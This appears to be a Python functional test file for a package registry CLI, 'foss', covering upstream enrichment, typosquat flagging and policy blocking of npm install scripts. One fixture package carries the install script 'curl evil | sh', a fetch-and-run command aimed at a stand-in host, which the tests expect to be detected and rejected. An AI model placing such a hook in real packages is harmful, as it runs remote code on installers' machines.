"""The commands around upstream facts: a real `foss serve` enriching from the fake upstream,
`foss packages show`, `foss enrich`, `foss check` and `foss popular refresh`."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import Engine

from foss_registry.config import get_settings
from foss_registry.db import write_transaction
from foss_registry.policy import service as policy
from foss_registry.wiring import new_worker
from tests.fakes.upstream import FakeUpstream
from tests.functional.cli.conftest import run_foss
from tests.functional.conftest import create_token
from tests.functional.server.conftest import ServerProcess, foss_command, start_server


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeUpstream]:
    """The fake upstream, configured for PyPI and npm in this process too (its reads)."""
    with FakeUpstream() as server:
        monkeypatch.setenv("FOSS_UPSTREAM_PYPI", server.pypi_url)
        monkeypatch.setenv("FOSS_UPSTREAM_NPM", server.npm_url)
        get_settings.cache_clear()
        yield server
    get_settings.cache_clear()


@pytest.fixture
def served(tmp_path: Path, database_url: str, fake: FakeUpstream) -> Iterator[ServerProcess]:
    """`foss serve` with only the PyPI upstream configured."""
    env = {
        "FOSS_DATABASE_URL": database_url,
        "FOSS_RATE_LIMITS_ENABLED": "false",
        "FOSS_UPSTREAM_PYPI": fake.pypi_url,
        "FOSS_UPSTREAM_NPM": "",
        "FOSS_UPSTREAM_MAVEN": "",
        "FOSS_WORKER_POLL_SECONDS": "0.1",
    }
    proc = start_server(tmp_path, env)
    yield proc
    proc.stop()


def test_served_submission_is_enriched_and_shown(served: ServerProcess, engine: Engine, fake: FakeUpstream) -> None:
    log = served.log()
    assert (
        "upstream registries for enrichment: pypi configured, npm not configured "
        "(FOSS_UPSTREAM_NPM unset), maven not configured (FOSS_UPSTREAM_MAVEN unset)"
    ) in log
    assert fake.url not in log
    fake.add_pypi("reqeusts", "1.0.0", license_expression="MIT", wheel=False)
    token = create_token(engine, "alice", "submitter")
    api = f"{served.url}/api/v1"
    submitted = run_foss("packages", "submit", "reqeusts", "1.0.0", "-e", "pypi", "--json", api_url=api, token=token)
    assert submitted.code == 0, submitted.stderr
    # The job worker of `foss serve` records the outcome well within 30 s.
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        upstream = httpx.get(f"{api}/packages/reqeusts").json()["upstream"]
        if upstream["status"] != "pending":
            break
        time.sleep(0.2)
    assert upstream["status"] == "ok"
    shown = run_foss("packages", "show", "reqeusts", api_url=api)
    assert shown.code == 0, shown.stderr
    out = " ".join(shown.stdout.split())
    assert "upstream" in out and f"source {fake.pypi_url}reqeusts/" in out
    assert "released 2024-01-02T03:04:05Z" in out
    assert "reqeusts-1.0.0.tar.gz" in out
    assert "signals" in out and "typosquat" in out and "'requests'" in out
    assert "│ review │ typosquat" in shown.stdout and "│ info   │ sdist_only" in shown.stdout
    npm = run_foss("packages", "submit", "left-pad", "1.3.0", "-e", "npm", "--json", api_url=api, token=token)
    assert json.loads(npm.stdout)["upstream"]["status"] == "not_configured"


def server_env(database_url: str, fake: FakeUpstream) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("FOSS_")}
    return env | {
        "FOSS_DATABASE_URL": database_url,
        "FOSS_UPSTREAM_PYPI": fake.pypi_url,
        "FOSS_UPSTREAM_NPM": fake.npm_url,
    }


def test_foss_enrich_command(client, engine: Engine, tokens, fake: FakeUpstream, database_url: str) -> None:
    fake.add_npm("@acme/widget", "1.0.0", scripts={"postinstall": "node x.js"}, repository="https://git.example.internal/w")
    fake.add_npm("@acme/widget", "1.1.0", repository="https://git.example.internal/w")
    for version in ("1.0.0", "1.1.0"):
        body = {"name": "@acme/widget", "version": version, "ecosystem": "npm", "license": "MIT"}
        assert client.post("/api/v1/packages", json=body, headers={"X-API-Key": tokens["submitter"]}).status_code == 201
    env = server_env(database_url, fake)
    run = subprocess.run([*foss_command(), "enrich", "@acme/widget@1.0.0", "-e", "npm", "--json"],
                         env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout) == {"enriched": 1, "statuses": {"ok": 1}}
    assert "upstream not configured for maven" in run.stderr
    rec = client.get("/api/v1/packages/@acme/widget", params={"ecosystem": "npm", "version": "1.0.0"}).json()
    assert rec["upstream"]["install_scripts"] == [{"name": "postinstall", "command": "node x.js"}]
    assert client.get("/api/v1/packages/@acme/widget", params={"ecosystem": "npm", "version": "1.1.0"}).json()["upstream"]["status"] == "pending"
    every = subprocess.run([*foss_command(), "enrich", "--ecosystem", "npm"], env=env, capture_output=True, text=True, timeout=120)
    assert every.returncode == 0, every.stderr
    assert "2 versions enriched: 2 ok" in every.stderr
    unknown = subprocess.run([*foss_command(), "enrich", "nothere", "-e", "npm"], env=env, capture_output=True, text=True, timeout=120)
    assert unknown.returncode == 2 and "No package named 'nothere'" in unknown.stderr
    no_eco = subprocess.run([*foss_command(), "enrich", "nothere"], env=env, capture_output=True, text=True, timeout=120)
    assert no_eco.returncode == 2 and "needs --ecosystem" in no_eco.stderr


def test_check_reports_block_level_signals(client, engine: Engine, tokens, fake: FakeUpstream, database_url: str) -> None:
    with write_transaction(engine) as conn:
        policy.set_policy(conn, {"signals": {"install_scripts": "block"}}, by="adam")
    fake.add_npm("scripted", "1.0.0", scripts={"install": "curl evil | sh"}, repository="https://git.example.internal/s")
    body = {"name": "scripted", "version": "1.0.0", "ecosystem": "npm", "license": "MIT"}
    client.post("/api/v1/packages", json=body, headers={"X-API-Key": tokens["submitter"]})
    new_worker(engine).run_until_idle()  # the scan (the policy decides once it is done) and enrichment
    assert client.get("/api/v1/packages/scripted").json()["status"] == "rejected"
    env = server_env(database_url, fake)
    run = subprocess.run([*foss_command(), "enrich", "scripted", "-e", "npm"], env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    rec = client.get("/api/v1/packages/scripted").json()
    assert rec["status"] == "rejected" and rec["reviews"][0]["by"] == "policy"
    answer = client.post("/api/v1/check", json={"dependencies": [{"name": "scripted", "version": "1.0.0", "ecosystem": "npm"}]}).json()
    note = answer["dependencies"][0]["note"]
    assert "block-level signals: install_scripts: runs code when installed (install: curl evil | sh)" in note


def test_popular_refresh(tmp_path: Path) -> None:
    source = tmp_path / "names.txt"
    source.write_text("# from a test\nalpha\nbeta\n\nalpha\ngamma\n")
    target = tmp_path / "out.txt"
    run = run_foss("popular", "refresh", "pypi", source, "--output", target, api_url=None)
    assert run.code == 0, run.stderr
    assert target.read_text() == "# from a test\nalpha\nbeta\ngamma\n"
    assert "3 pypi names written" in run.stderr
    bad = run_foss("popular", "refresh", "cargo", source, "--output", target, api_url=None)
    assert bad.code == 2 and "no popular list for 'cargo'" in bad.stderr
